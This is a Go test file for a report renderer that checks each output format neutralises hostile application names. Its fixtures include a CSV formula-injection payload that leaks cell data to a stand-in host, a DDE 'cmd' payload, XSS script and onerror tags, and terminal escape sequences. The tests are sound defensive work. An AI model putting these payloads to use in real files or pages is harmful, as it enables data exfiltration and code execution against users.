package reports_test

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/clipperhouse/displaywidth"
	"golang.org/x/net/html"

	"github.com/appaudit/appaudit/reports"
)

// rawHostile are the characters that must not reach a text report as
// they are: terminal escapes, line breaks that forge lines, NUL, BEL, and
// the bidirectional and zero-width characters that disguise text.
var rawHostile = []string{"\x1b", "\r", "\x00", "\x07", "\u202e", "\u2066", "\u2069", "\u200b"}

func noRawHostile(t *testing.T, format, out string) {
	t.Helper()
	for _, bad := range rawHostile {
		if strings.Contains(out, bad) {
			t.Errorf("%s: contains %q as it is", format, bad)
		}
	}
	if !utf8.ValidString(out) {
		t.Errorf("%s: not valid UTF-8", format)
	}
}

// Every format renders the hostile fixture safely; the structured ones
// still parse, and the hostile names are there, shown rather than obeyed.
func TestHostileNamesInEveryFormat(t *testing.T) {
	r := hostileResult()
	for _, f := range reports.Formats() {
		out := string(render(t, f.Name, r, testOpts))
		t.Run(f.Name, func(t *testing.T) {
			if f.Name != "json" {
				noRawHostile(t, f.Name, out)
			}
			if strings.Contains(out, "\nforged line") {
				t.Error("a line break in a display name forged a line")
			}
			if f.Name != "prometheus" && !strings.Contains(out, "HYPERLINK") {
				t.Error("the hostile name is not shown at all")
			}
		})
	}
}

func TestHostileJSONKeepsTheDataExactly(t *testing.T) {
	r := hostileResult()
	out := render(t, "json", r, testOpts)
	back, err := reports.ReadJSON(bytes.NewReader(out), "hostile.json")
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back, r) {
		t.Error("the hostile report does not read back into the same Result")
	}
	if bytes.ContainsAny(out, "<>&\x1b\x00") {
		t.Error("JSON holds <, >, & or control characters unescaped")
	}
}

func TestHostileTable(t *testing.T) {
	out := string(render(t, "table", hostileResult(), testOpts))
	for _, line := range strings.Split(out, "\n") {
		if n := displaywidth.String(line); n > 80 {
			t.Errorf("a long name was not clipped or wrapped to 80 columns: line of %d: %q", n, line)
			break
		}
	}
	// Laid out wide, the names are whole: escaped, not clipped.
	wide := string(render(t, "table", hostileResult(), reports.Options{Wide: true}))
	for _, out := range []string{out, wide} {
		noRawHostile(t, "table", out)
		if !strings.Contains(out, `Evil\u001B[2J`) {
			t.Errorf("hostile characters are not shown escaped:\n%s", out)
		}
		if !strings.Contains(out, "🔥 Mailer 👩‍💻") {
			t.Error("emoji (with their zero-width joiners) are not kept")
		}
	}
	if !strings.Contains(wide, `App\u000D\u000Aforged line\u0000nul`) {
		t.Errorf("hostile characters are not shown escaped:\n%s", wide)
	}
}

func TestHostileCSV(t *testing.T) {
	rows, err := csv.NewReader(strings.NewReader(string(render(t, "csv", hostileResult(), testOpts)))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would be a spreadsheet formula", cell)
			}
		}
		names[row[6]] = true
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, `'+cmd|' /C calc'!A0`} {
		found := false
		for n := range names {
			found = found || strings.HasPrefix(n, want)
		}
		if !found {
			t.Errorf("no display name cell starting %q (neutralised, not dropped): %v", want, names)
		}
	}
}

func TestHostileMarkdown(t *testing.T) {
	out := string(render(t, "markdown", hostileResult(), testOpts))
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "| ") && !strings.HasPrefix(line, "| read") && strings.Count(line, "|") > 3 {
			if n := len(mdCells(line)); n != 7 && n != 4 {
				t.Errorf("a name split a table row into %d cells: %s", n-2, line)
			}
		}
	}
	// Outside code spans: no HTML, no links or images, no mentions.
	prose := regexpCode.ReplaceAllString(out, "")
	prose = strings.TrimPrefix(prose, prose[:strings.Index(prose, "-->")+3]) // the schema comment
	for _, bad := range []string{"<script", "<img", "![", "@admins"} {
		if strings.Contains(prose, bad) {
			t.Errorf("markdown outside code spans holds %q", bad)
		}
	}
	// Every @ is followed by a zero-width space: no name from the tenant,
	// in any cell, mentions anyone.
	if m := regexp.MustCompile(`@(?:[^&]|&[^#])\S*`).FindString(prose); m != "" {
		t.Errorf("markdown outside code spans holds a mention: %q", m)
	}
	if m := regexp.MustCompile(`[^\\]\]\(`).FindString(prose); m != "" {
		t.Errorf("markdown outside code spans holds a link: %q", m)
	}
	if !strings.Contains(out, "@&#8203;admins") || !strings.Contains(out, `\[x\]`) {
		t.Error("the hostile name is not shown escaped")
	}
}

func TestHostileHTML(t *testing.T) {
	out := render(t, "html", hostileResult(), testOpts)
	doc := htmlDoc(t, out)
	allowed := map[string]bool{}
	for _, e := range strings.Fields("html head meta title style body header h1 h2 h3 div section p strong span table thead tbody tr th td code br a ul li footer svg line g text rect circle i") {
		allowed[e] = true
	}
	var texts strings.Builder
	walkHTML(doc, func(n *html.Node) {
		switch n.Type {
		case html.ElementNode:
			if !allowed[n.Data] {
				t.Errorf("element <%s> in the report", n.Data)
			}
			for _, a := range n.Attr {
				if strings.HasPrefix(a.Key, "on") || (a.Key == "href" && !strings.HasPrefix(a.Val, "https://learn.microsoft.com/") && !strings.HasPrefix(a.Val, "https://github.com/cisagov/")) ||
					a.Key == "src" || a.Key == "style" {
					t.Errorf("attribute %s=%q on <%s>", a.Key, a.Val, n.Data)
				}
			}
		case html.TextNode:
			texts.WriteString(n.Data)
		}
	})
	text := texts.String()
	for _, want := range []string{"<script>alert(1)</script>", "=HYPERLINK(", `Evil\u001B[2J`, "🔥 Mailer"} {
		if !strings.Contains(text, want) {
			t.Errorf("the page's text lacks %q: hostile names must be shown as text", want)
		}
	}
}

func TestHostileJUnitAndSARIF(t *testing.T) {
	r := hostileResult()
	dec := xml.NewDecoder(bytes.NewReader(render(t, "junit", r, testOpts)))
	elements := map[string]bool{"testsuites": true, "testsuite": true, "properties": true, "property": true, "testcase": true, "failure": true, "error": true, "skipped": true}
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("JUnit does not parse: %v", err)
		}
		if se, ok := tok.(xml.StartElement); ok && !elements[se.Name.Local] {
			t.Errorf("element <%s> in the JUnit report", se.Name.Local)
		}
	}
	doc := decodeJUnit(t, render(t, "junit", r, testOpts))
	found := false
	for _, s := range doc.Suites {
		found = found || strings.HasPrefix(s.Name, "<script>alert(1)</script>")
	}
	if !found {
		t.Error("no suite named after the hostile app: its name did not survive as text")
	}

	run := decodeSARIF(t, render(t, "sarif", r, testOpts)).Runs[0]
	if len(run.Results) != len(r.Findings) {
		t.Errorf("%d results for %d findings", len(run.Results), len(r.Findings))
	}
	for _, res := range run.Results {
		uri := res.Locations[0].PhysicalLocation.ArtifactLocation.URI
		if strings.ContainsAny(uri, "\t=<> ") {
			t.Errorf("artifact URI %q is not escaped", uri)
		}
	}
}

func TestHostilePrometheus(t *testing.T) {
	fams := parseProm(t, render(t, "prometheus", hostileResult(), testOpts))
	names := map[string]bool{}
	for _, s := range fams["appaudit_credential_expiry_days"].samples {
		names[s.labels["display_name"]] = true
		if n := utf8.RuneCountInString(s.labels["display_name"]); n > 100 {
			t.Errorf("display_name label of %d runes: not clipped", n)
		}
	}
	if !names[`<script>alert(1)</script><img src=x onerror=alert(2)> ]]><injected/> "q" \ @admins`] {
		t.Errorf("quotes and backslashes did not survive label escaping: %v", names)
	}
}

// regexpCode matches Markdown code spans of one or two backticks.
var regexpCode = regexp.MustCompile("``[^`]*``|`[^`]*`")
